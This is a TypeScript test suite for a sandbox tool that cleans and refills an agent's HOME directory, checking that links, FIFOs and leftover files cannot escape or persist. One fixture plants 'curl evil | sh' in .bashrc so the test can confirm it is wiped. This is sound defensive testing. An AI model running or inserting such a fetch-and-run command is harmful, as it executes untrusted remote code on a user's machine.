import { execFileSync } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  linkSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { fillHome } from '../../../sidecar/home/fill.ts';
import { clearHome, prepareHome } from '../../../sidecar/home/prepare.ts';

let root: string;
let home: string;
let outside: string;
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'holdfast-home-'));
  home = join(root, 'home');
  outside = join(root, 'outside');
  mkdirSync(home);
  mkdirSync(outside);
  writeFileSync(join(outside, 'precious'), 'mine');
});
afterEach(() => {
  execFileSync('chmod', ['-R', 'u+rwx', root]);
  rmSync(root, { recursive: true });
});

const put = (path: string, text = 'x'): void => {
  mkdirSync(join(home, path, '..'), { recursive: true });
  writeFileSync(join(home, path), text);
};
const names = (path = '.'): string[] => readdirSync(join(home, path)).sort();
const START = ['.bashrc', '.profile'];

describe('HOME of a new sandbox', () => {
  test('keeps the named paths and nothing else', async () => {
    put('.claude/projects/a.jsonl');
    put('.local/share/opencode/db');
    put('.local/share/other/db');
    put('.local/bin/evil');
    put('.npm/cache');
    put('.bashrc', 'curl evil | sh');
    put('loose');
    const removed = await prepareHome(home, ['.claude', '.local/share/opencode', '.npm', '.claude.json']);
    expect(names()).toEqual(['.bashrc', '.claude', '.local', '.npm', '.profile']);
    expect(names('.local')).toEqual(['share']);
    expect(names('.local/share')).toEqual(['opencode']);
    expect(readFileSync(join(home, '.claude/projects/a.jsonl'), 'utf8')).toBe('x');
    expect(readFileSync(join(home, '.bashrc'), 'utf8')).not.toContain('evil');
    expect(removed.files).toBe(4);
    // A repetition removes only the start files, which it writes again.
    expect((await prepareHome(home, ['.claude', '.npm', '.local/share/opencode'])).files).toBe(2);
  });

  test('a path inside another one adds nothing, in any order', async () => {
    put('.config/a/one');
    put('.config/b/two');
    await prepareHome(home, ['.config/a', '.config', '.config/b/two']);
    expect(names('.config')).toEqual(['a', 'b']);
  });

  test('a start file that the profile keeps stays as the agent left it', async () => {
    put('.profile', 'mine');
    await prepareHome(home, ['.profile']);
    expect(readFileSync(join(home, '.profile'), 'utf8')).toBe('mine');
  });

  test('links out of HOME are removed or kept as links, and never followed', async () => {
    symlinkSync(outside, join(home, 'out'));
    symlinkSync(join(outside, 'precious'), join(home, '.profile'));
    symlinkSync(outside, join(home, '.local'));
    symlinkSync(outside, join(home, '.claude'));
    linkSync(join(outside, 'precious'), join(home, 'hard'));
    await prepareHome(home, ['.claude', '.local/share/opencode']);
    expect(names()).toEqual(['.bashrc', '.claude', '.profile']);
    expect(lstatSync(join(home, '.claude')).isSymbolicLink()).toBe(true);
    expect(lstatSync(join(home, '.profile')).isFile()).toBe(true);
    expect(readdirSync(outside)).toEqual(['precious']);
    expect(readFileSync(join(outside, 'precious'), 'utf8')).toBe('mine');
    await clearHome(home);
    expect(readdirSync(outside)).toEqual(['precious']);
  });

  test('FIFOs, odd names, unreadable modes and deep or wide trees are removed', async () => {
    execFileSync('mkfifo', [join(home, '.bashrc'), join(home, 'fifo')]);
    writeFileSync(Buffer.concat([Buffer.from(`${home}/`), Buffer.from([0xff, 0xfe, 0x0a])]), 'x');
    let deep = join(home, 'deep');
    for (let level = 0; level < 60; level += 1) {
      mkdirSync(deep);
      deep = join(deep, 'a'.repeat(20));
    }
    mkdirSync(join(home, 'wide'));
    for (let n = 0; n < 3000; n += 1) writeFileSync(join(home, 'wide', `f${n}`), '');
    put('.local/secret/file');
    put('.local/share/opencode/db');
    chmodSync(join(home, '.local/secret'), 0o000);
    chmodSync(join(home, '.local'), 0o000);
    chmodSync(home, 0o000);
    await prepareHome(home, ['.local/share/opencode']);
    expect(names()).toEqual(['.bashrc', '.local', '.profile']);
    expect(names('.local/share/opencode')).toEqual(['db']);
    expect(names('.local')).toEqual(['share']);
    expect(lstatSync(home).mode & 0o777).toBe(0o700);
    expect(lstatSync(join(home, '.bashrc')).isFile()).toBe(true);
  });

  test('a process that keeps filling HOME does not keep it from ending', async () => {
    const script =
      'n=0; while [ -d "$1" ]; do n=$((n+1)); mkdir -p "$1/d$n/e" 2>/dev/null; : >"$1/f$n"; done';
    const { spawn } = await import('node:child_process');
    const writer = spawn('sh', ['-c', script, 'sh', home], { stdio: 'ignore' });
    try {
      await prepareHome(home, ['.claude']).catch((error: unknown) => error);
    } finally {
      writer.kill('SIGKILL');
      await new Promise((resolve) => writer.once('close', resolve));
    }
    // The last `mkdir` that it began may outlive it for a moment.
    await expect
      .poll(async () => {
        await prepareHome(home, []);
        return names();
      })
      .toEqual(START);
  });

  test('clearing removes kept paths as well', async () => {
    put('.claude/a');
    await clearHome(home);
    expect(existsSync(home)).toBe(true);
    expect(names()).toEqual([]);
  });
});

describe("a person's configuration", () => {
  const fill = (files: Readonly<Record<string, string>>): { made: number; kept: number } =>
    fillHome(
      home,
      Object.entries(files).map(([path, text]) => ({
        path,
        size: text.length,
        executable: path.endsWith('.sh'),
      })),
      Buffer.from(Object.values(files).join('')),
    );

  test('is written beside what is there, which stays', async () => {
    put('.claude/settings.json', 'of the agent');
    await prepareHome(home, ['.claude']);
    expect(
      fill({
        '.claude/settings.json': 'new',
        '.claude/CLAUDE.md': 'be brief',
        'bin/run.sh': '#!',
        '.bashrc': 'mine',
        empty: '',
      }),
    ).toEqual({ made: 4, kept: 1 });
    expect(readFileSync(join(home, '.claude/settings.json'), 'utf8')).toBe('of the agent');
    expect(readFileSync(join(home, '.claude/CLAUDE.md'), 'utf8')).toBe('be brief');
    expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe('mine');
    expect(lstatSync(join(home, 'bin/run.sh')).mode & 0o777).toBe(0o755);
    // As after a kill in between.
    put('.holdfast-part', 'half');
    expect(fill({ '.claude/CLAUDE.md': 'other', later: 'y' })).toEqual({ made: 1, kept: 1 });
    expect(names()).toEqual(['.bashrc', '.claude', '.profile', 'bin', 'empty', 'later']);
  });

  test('goes through no link, FIFO or file that the agent left in its place', () => {
    symlinkSync(outside, join(home, '.claude'));
    symlinkSync(join(outside, 'precious'), join(home, 'CLAUDE.md'));
    symlinkSync(join(outside, 'new'), join(home, 'dangling'));
    symlinkSync(join(outside, 'precious'), join(home, '.holdfast-part'));
    put('file', 'x');
    execFileSync('mkfifo', [join(home, 'pipe')]);
    expect(
      fill({
        '.claude/CLAUDE.md': 'a',
        'CLAUDE.md': 'b',
        dangling: 'c',
        'file/below': 'd',
        'pipe/below': 'e',
        pipe: 'f',
      }),
    ).toEqual({ made: 0, kept: 6 });
    symlinkSync(join(outside, 'precious'), join(home, '.holdfast-part'));
    expect(fill({ free: 'g' })).toEqual({ made: 1, kept: 0 });
    expect(readdirSync(outside)).toEqual(['precious']);
    expect(readFileSync(join(outside, 'precious'), 'utf8')).toBe('mine');
  });

  test('with fewer bytes than its files need is refused', () => {
    expect(() => fillHome(home, [{ path: 'a', size: 9, executable: false }], Buffer.from('short'))).toThrow(
      /more bytes/,
    );
  });
});
